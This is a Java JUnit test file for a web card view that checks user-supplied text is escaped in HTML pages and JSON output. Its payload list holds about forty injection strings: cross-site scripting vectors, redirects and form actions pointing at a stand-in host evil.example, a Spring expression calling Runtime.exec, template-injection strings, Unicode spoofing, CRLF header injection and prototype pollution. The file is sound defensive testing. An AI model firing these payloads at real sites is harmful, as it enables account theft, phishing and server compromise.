package dev.entente.server.card.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.entente.server.card.Card;
import dev.entente.server.card.Specimens;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.springframework.context.support.ResourceBundleMessageSource;
import org.springframework.mock.web.MockHttpServletRequest;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockServletContext;
import org.thymeleaf.context.WebContext;
import org.thymeleaf.spring6.SpringTemplateEngine;
import org.thymeleaf.templateresolver.ClassLoaderTemplateResolver;
import org.thymeleaf.web.servlet.JakartaServletWebApplication;
import org.unbescape.html.HtmlEscape;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Whatever a member or a directory writes is shown as that text and does nothing else. */
@Tag("M41")
class HostileTextTests {

  private static final String HARMLESS = "Zq7";

  static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<svg onload=alert(1)>",
          "<svg><script>alert&#40;1&#41;</script>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "<body onload=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<form action=//evil.example><button>Sign in</button></form>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content='0;url=//evil.example'>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>*{background:url(//evil.example)}</style>",
          "<object data=data:text/html;base64,PHNjcmlwdD4>",
          "<template><script>alert(1)</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<!--<img src=--><img src=x onerror=alert(1)//>",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?xml version=\"1.0\"?><x/>",
          "\"><script>alert(1)</script>",
          "' onmouseover='alert(1)",
          "\" autofocus onfocus=\"alert(1)",
          "`-alert(1)-`",
          "javascript:alert(1)",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#x3C;script&#x3E;alert(1)",
          "\\u003cscript\\u003ealert(1)",
          "${T(java.lang.Runtime).getRuntime().exec('id')}",
          "[[${7*7}]] __${7*7}__::.x",
          "#{card.linkedIn} @{/admin} ~{layout}",
          "{{constructor.constructor('alert(1)')()}}",
          "Ada\u202Etpircs\u202C",
          "Microsoft Support \u2714\u200B",
          "From LinkedIn\u2028Verified by IT\u0000",
          "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
          "Set-Cookie: a=b\r\nX: y",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "{\"__proto__\":{\"x\":1}}");

  private final JsonMapper json = JsonMapper.builder().build();
  private final SpringTemplateEngine templates = templates();

  @Test
  void theCorpusIsLarge() {
    assertThat(Set.copyOf(PAYLOADS)).hasSizeGreaterThanOrEqualTo(30);
  }

  @ParameterizedTest
  @FieldSource("PAYLOADS")
  void thePageShowsItAsTextInEveryStateAndField(String payload) {
    var text = Specimens.cleaned(payload);

    var pages = Specimens.everyState(text).map(this::page).toList();

    var escaped = HtmlEscape.escapeHtml4Xml(text);
    assertThat(pages)
        .isEqualTo(
            Specimens.everyState(HARMLESS).map(it -> page(it).replace(HARMLESS, escaped)).toList());
  }

  @ParameterizedTest
  @FieldSource("PAYLOADS")
  void theApiGivesItAsPlainTextInEveryStateAndField(String payload) {
    var text = Specimens.cleaned(payload);

    var cards = Specimens.everyState(text).map(this::json).toList();

    var quoted = json.writeValueAsString(text);
    assertThat(cards)
        .isEqualTo(
            Specimens.everyState(HARMLESS)
                .map(it -> replaced(json(it), quoted.substring(1, quoted.length() - 1)))
                .toList());
  }

  @ParameterizedTest
  @FieldSource("PAYLOADS")
  void whatANetworkSentIsCleanedOnTheWayIn(String payload) {
    assertThat(json(Specimens.withFull(payload)).at("/linkedIn/profile/headline").asString())
        .isEqualTo(Specimens.cleaned(payload))
        .doesNotContainPattern("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}]");
  }

  @Test
  void everyTextOfTheFullCardIsOnThePage() {
    var page = page(Specimens.withFull(HARMLESS));

    assertThat(page.split(HARMLESS, -1)).hasSizeGreaterThan(20);
    assertThat(page)
        .contains("In common", "Shared connections", "Experience", "Education", "Skills")
        .contains("From LinkedIn", "www.linkedin.com")
        .contains("/v1.0/users/" + Specimens.SUBJECT + "/card/picture");
  }

  private JsonNode replaced(JsonNode node, String text) {
    return json.readTree(node.toString().replace(HARMLESS, text));
  }

  private JsonNode json(Card card) {
    return json.readTree(json.writeValueAsString(CardResource.of(card)));
  }

  private String page(Card card) {
    var exchange =
        JakartaServletWebApplication.buildApplication(new MockServletContext())
            .buildExchange(new MockHttpServletRequest(), new MockHttpServletResponse());
    Map<String, Object> model = Map.of("card", CardResource.of(card), "returnTo", "/host");
    return templates.process(
        "card/card", Set.of("card"), new WebContext(exchange, Locale.ENGLISH, model));
  }

  private static SpringTemplateEngine templates() {
    var resolver = new ClassLoaderTemplateResolver();
    resolver.setPrefix("templates/");
    resolver.setSuffix(".html");
    var messages = new ResourceBundleMessageSource();
    messages.setBasename("messages/card");
    var engine = new SpringTemplateEngine();
    engine.setTemplateResolver(resolver);
    engine.setTemplateEngineMessageSource(messages);
    return engine;
  }
}
